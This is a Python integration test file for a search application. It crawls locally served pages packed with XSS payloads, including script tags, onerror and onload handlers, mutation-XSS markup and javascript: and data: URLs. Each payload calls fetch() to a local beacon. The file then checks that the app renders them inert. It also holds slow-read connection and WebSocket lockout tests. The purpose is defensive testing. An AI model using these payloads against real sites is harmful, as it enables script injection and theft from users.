"""A crawl of pages written to attack the Searcher, looked at in headless Chromium: titles, text, URLs, anchors,
meta fields and headers carry HTML and script (each of which would set `window.pwned` or ask a listener of ours
for a URL), right-to-left overrides and zero-width characters, null bytes, a title of 200,000 characters and a
page of 2 MB of text without a sentence end. Every page of the app (search, snippets, info, cached copies, the
crawl's page, hosts, the job pages) shows them as text: no script runs and the listener is asked nothing."""

from __future__ import annotations

import html
import http.server
import socket
import threading
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from tests.crawlutil import cli, defines
from tests.searchapp import SOLR, SearchServer, require_solr, wipe_solr

pytestmark = [pytest.mark.integration, pytest.mark.slow]
CRAWL = "attack"
WORD = "zorbix"  # every page has it
HOST, BEACON_HOST = "127.0.1.201", "127.0.1.202"
RLO, ZERO_WIDTH = "\u202e", "\u200b\u200d\ufeff"
HEADER_TIMEOUT = 2  # seconds: searcher.header.timeout, also how long an answer may wait on its reader


class Beacon:
    """A listener the pages' scripts would call: every request it gets is a script (or an image) that ran."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                paths.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

        self.server = http.server.ThreadingHTTPServer((BEACON_HOST, 0), Handler)
        self.url = f"http://{BEACON_HOST}:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def payloads(beacon: str, tag: str) -> str:
    """Markup that runs script (or loads from the beacon) wherever it is taken as HTML, in any context."""
    return " ".join([
        f"<script>window.pwned='{tag}';fetch('{beacon}/s/{tag}')</script>",
        f"\"><img src=x onerror=\"window.pwned='{tag}';fetch('{beacon}/i/{tag}')\">",
        f"'><svg onload=\"window.pwned='{tag}';fetch('{beacon}/v/{tag}')\">",
        f"<img src='{beacon}/img/{tag}'>",
        f"</title></textarea></style><script>window.pwned='{tag}';fetch('{beacon}/c/{tag}')</script>",
    ])


def attr(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def hostile_pages(beacon: str) -> dict[str, tuple[str, str, str, list[tuple[str, str]]]]:
    """path -> (title, body, head, extra headers)"""
    p = lambda tag: payloads(beacon, tag)  # noqa: E731
    mark = lambda tag: f"window.pwned='{tag}';fetch('{beacon}/m/{tag}')"  # noqa: E731
    pages = {
        "/title.html": (f"{WORD} title {p('title')}", f"{WORD} {attr(p('text'))}",
                        f'<meta name="description" content="{attr(p("description"))}">'
                        f'<meta name="keywords" content="{WORD},{attr(p("keywords"))}">', []),
        "/rtl.html": (f"{WORD} rtl {RLO}lmth.exe{ZERO_WIDTH} zero{ZERO_WIDTH}width", f"{WORD} {RLO}gnp.evil", "", []),
        "/long.html": (f"{WORD} long " + "A" * 200_000, f"{WORD} a page with a long title", "", []),
        "/null.html": (f"{WORD} null\0byte", f"{WORD} null\0 bytes \0 here", "", []),
        # 6.6 MB of text and no sentence end: the highlighter's "sentence" is all it reads of the page
        "/big.html": (f"{WORD} big", f"{WORD} " + "lorem ipsum dolor sit " * 300_000 + WORD, "", []),
        "/headers.html": (f"{WORD} headers", f"{WORD} headers", "", [("X-Evil", p("header"))]),
        "/base.html": (f"{WORD} base", f"{WORD} <a href='title.html'>rel</a>",
                       f"<base href='javascript:fetch(\"{beacon}/base\")//'>", []),
        "/refresh.html": (f"{WORD} refresh", f"{WORD} refresh",
                          f"<meta http-equiv=refresh content=\"0;url=javascript:fetch('{beacon}/refresh')\">", []),
        "/charset.html": (f"{WORD} charset", f"{WORD} charset", '<meta charset="<script>x</script>">', []),
        # markup lxml and a browser parse differently (mutation XSS): the snapshot must hold even so
        "/mutation.html": (f"{WORD} mutation", f"{WORD} <svg><style><img src=x onerror=\"{mark('svg')}\"></style></svg>"
                           f"<math><mtext><table><mglyph><style><img src=x onerror=\"{mark('math')}\">"
                           f"</style></mglyph></table></mtext></math>"
                           f"<iframe srcdoc=\"<script>{mark('srcdoc')}</script>\"></iframe>"
                           f"<noembed><p title=\"</noembed><img src=x onerror={mark('noembed')}>\"></p></noembed>",
                           "", []),
    }
    links = "".join(f'<a href="{path}">{WORD} {attr(p("anchor" + str(i)))}</a>\n' for i, path in enumerate(pages))
    links += (f'<a href="javascript:fetch(\'{beacon}/js\')">{WORD} js</a>'
              f'<a href="data:text/html,<script>fetch(\'{beacon}/data\')</script>">{WORD} data</a>'
              f'<a href="/q.html?a=%22%3E%3Cscript%3Efetch(\'{beacon}/query\')%3C/script%3E">{WORD} query</a>'
              '<a href="/redirect">redirect</a>')
    pages["/q.html"] = (f"{WORD} query", f"{WORD} a URL with a query", "", [])
    pages["/"] = (f"{WORD} home", links, "", [])
    return pages


@pytest.fixture(scope="module")
def beacon() -> Beacon:
    return Beacon()


@pytest.fixture(scope="module")
def web(beacon: Beacon) -> Iterator[str]:
    pages = hostile_pages(beacon.url)

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            if self.path == "/redirect":
                self.send_response(302)
                self.send_header("Location", f"javascript:fetch('{beacon.url}/location')")
                self.end_headers()
                return
            page = pages.get(self.path.split("?")[0])
            if page is None:
                self.send_error(404)
                return
            title, body, head, headers = page
            data = f"<html><head><title>{title}</title>{head}</head><body><p>{body}</p></body></html>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            for k, v in headers:
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(data)

    server = http.server.ThreadingHTTPServer((HOST, 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://{HOST}:{server.server_address[1]}/"
    server.shutdown()


@pytest.fixture(scope="module")
def server(web: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[SearchServer]:
    solr = require_solr()
    wipe_solr(CRAWL)
    tmp = tmp_path_factory.mktemp("attack")
    d = [*defines(tmp, "sqlite", **{"http.content.limit": -1}), "-crawlId", CRAWL]
    (tmp / "seeds.txt").write_text(web + "\n")
    assert cli("crawl", tmp / "seeds.txt", "-rounds", "2", "-solr", solr, *d) == 0
    assert cli("updatehostdb", *d) == 0
    assert cli("readdb", "-stats", *d) == 0
    with SearchServer(["-solr", SOLR, "-jobs", *d, "-D", f"searcher.header.timeout={HEADER_TIMEOUT}"],
                      tmp / "server.log") as s:
        yield s
    wipe_solr(CRAWL)


def hits(server: SearchServer) -> list[dict]:
    answer = requests.get(f"{server.url}/api/search", params={"q": WORD, "rows": 100, "collapse": 0}, timeout=60)
    assert answer.status_code == 200, answer.text
    return answer.json()["hits"]


def test_snippets_are_short_even_of_a_page_without_sentence_ends(server: SearchServer) -> None:
    found = {urllib.parse.urlsplit(h["url"]).path: h for h in hits(server)}
    assert {"/", "/big.html", "/title.html", "/rtl.html", "/long.html", "/null.html"} <= set(found)
    for path, hit in found.items():
        text = html.unescape(hit["snippet"].replace("<mark>", "").replace("</mark>", ""))
        assert len(text) <= 400, (path, len(text))  # the highlighter gave /big.html 51,200 characters
    assert f"<mark>{WORD}</mark>" in found["/big.html"]["snippet"]


def test_browser_runs_nothing_the_crawl_brought(browser, server: SearchServer, beacon: Beacon, web: str) -> None:
    from selenium.webdriver.common.by import By

    q = urllib.parse.quote
    views = ["/", f"/search?q={WORD}", f"/search?q={WORD}&collapse=0", f"/search?q={WORD}&collapse=0&start=10",
             f"/search?q={q(payloads(beacon.url, 'query'))}", "/crawl", "/hosts", "/crawl/jobs", f"/rss?q={WORD}"]
    for url in [h["url"] for h in hits(server)] + [web + "redirect"]:
        views += [f"/info?url={q(url, safe='')}", f"/cached?url={q(url, safe='')}"]
    # a job whose arguments carry the same markup, and its pages
    answer = requests.post(f"{server.url}/api/jobs", timeout=30,
                           json={"type": "inject", "args": {"seedUrls": [payloads(beacon.url, "seed")]}})
    assert answer.status_code == 201, answer.text
    views += [f"/crawl/jobs/{answer.json()['id']}", f"/crawl/jobs/{answer.json()['id']}/progress"]

    ran = []
    for view in views:
        browser.get(server.url + view)
        time.sleep(0.2)
        frames = len(browser.find_elements(By.TAG_NAME, "iframe"))
        for frame in [None, *range(frames)]:
            if frame is not None:
                browser.switch_to.frame(frame)
            if browser.execute_script("return window.pwned || null"):
                ran.append((view, frame))
            browser.switch_to.default_content()
        assert not browser.find_elements(By.TAG_NAME, "script"), view
        if view.startswith("/search?q=zorbix"):  # every snippet short, shown as text
            for snippet in browser.find_elements(By.CSS_SELECTOR, "p.snippet"):
                assert len(snippet.text) <= 400 and not snippet.find_elements(By.CSS_SELECTOR, ":not(mark)")
    time.sleep(1)
    assert ran == [] and beacon.paths == []


def test_a_lone_surrogate_in_a_job_is_400_and_the_job_list_still_answers(server: SearchServer) -> None:
    """`"\\ud800"` is valid JSON but no text: the job started, its answer was a 500, and every GET /api/jobs after
    it was a 500 until the server restarted (its arguments could not be written as JSON)."""
    before = requests.get(f"{server.url}/api/jobs", timeout=30).json()["jobs"]
    for body in ('{"type": "readdb", "args": {"url": "http://a.example/\\ud800"}}',
                 '{"type": "readdb", "args": {"stats": true, "\\udfff": 1}}'):
        answer = requests.post(f"{server.url}/api/jobs", data=body, timeout=30,
                               headers={"Content-Type": "application/json"})
        assert answer.status_code == 400 and "lone surrogate" in answer.json()["error"], answer.text
    listing = requests.get(f"{server.url}/api/jobs", timeout=30)
    assert listing.status_code == 200 and len(listing.json()["jobs"]) == len(before)


def test_a_client_that_stops_reading_its_answer_is_cut_off(server: SearchServer, web: str) -> None:
    """The cached copy of the 6.6 MB page is more than the sockets' buffers hold: a client that asks for it and
    reads nothing held its connection (and the answer, and the route's task) for as long as it liked, so that a few
    addresses could hold every connection of the server; a client that reads slowly gets all of it."""
    path = f"/cached/raw?url={urllib.parse.quote(web + 'big.html', safe='')}"
    full = len(requests.get(server.url + path, timeout=60).content)
    assert full > 6_000_000
    host, port = urllib.parse.urlsplit(server.url).netloc.split(":")

    def ask(rcvbuf: int) -> socket.socket:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.connect((host, int(port)))
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return sock

    def read_all(sock: socket.socket, pause: float = 0.0) -> int:
        got = 0
        sock.settimeout(30)
        try:
            while chunk := sock.recv(262144):
                got += len(chunk)
                time.sleep(pause)
        except ConnectionResetError:
            pass
        sock.close()
        return got

    stalled = ask(4096)
    steady = ask(262144)
    assert read_all(steady, pause=0.1) > full  # the headers and the whole copy, read a little at a time
    time.sleep(HEADER_TIMEOUT * 3 + 2)  # the stalled answer did not move for more than the deadline
    assert read_all(stalled) < full  # cut off: what was left in the socket's buffers, not the copy
    assert requests.get(f"{server.url}/api/jobs", timeout=30).status_code == 200


def test_browser_the_snapshot_holds_without_its_sandbox(browser, server: SearchServer, web: str,
                                                        tmp_path: Path) -> None:
    """The cached copy's CSP and sandbox stop scripts; the snapshot must not need them: loaded as a plain file,
    markup that lxml reads as text and a browser as elements (an img onerror inside an svg's style, an iframe's
    srcdoc) ran there."""
    path = f"/cached/raw?url={urllib.parse.quote(web + 'mutation.html', safe='')}"
    copy = requests.get(server.url + path, timeout=60)
    assert copy.status_code == 200 and "sandbox" in copy.headers["Content-Security-Policy"]
    plain = tmp_path / "copy.html"
    plain.write_bytes(copy.content)
    browser.get(plain.as_uri())
    time.sleep(0.5)
    assert browser.execute_script("return window.pwned || null") is None
    assert "onerror" not in copy.text and "srcdoc" not in copy.text


def test_websocket_upgrades_do_not_lock_a_client_out(server: SearchServer) -> None:
    """The app has no WebSocket route, but uvicorn handed an Upgrade: websocket request to its WebSocket protocol
    (wsproto is installed with uvicorn's extras), and the connection never left the per-client count: 16 of them
    from an address and every later request from there, the browser's on a loopback server, was 503 until the
    server restarted."""
    host, port = urllib.parse.urlsplit(server.url).netloc.split(":")
    for _ in range(20):
        with socket.create_connection((host, int(port)), timeout=30) as sock:
            sock.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade, close\r\n"
                         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
            assert sock.recv(65536).startswith(b"HTTP/1.1 "), "no answer"
    assert requests.get(f"{server.url}/search", params={"q": WORD}, timeout=30).status_code == 200
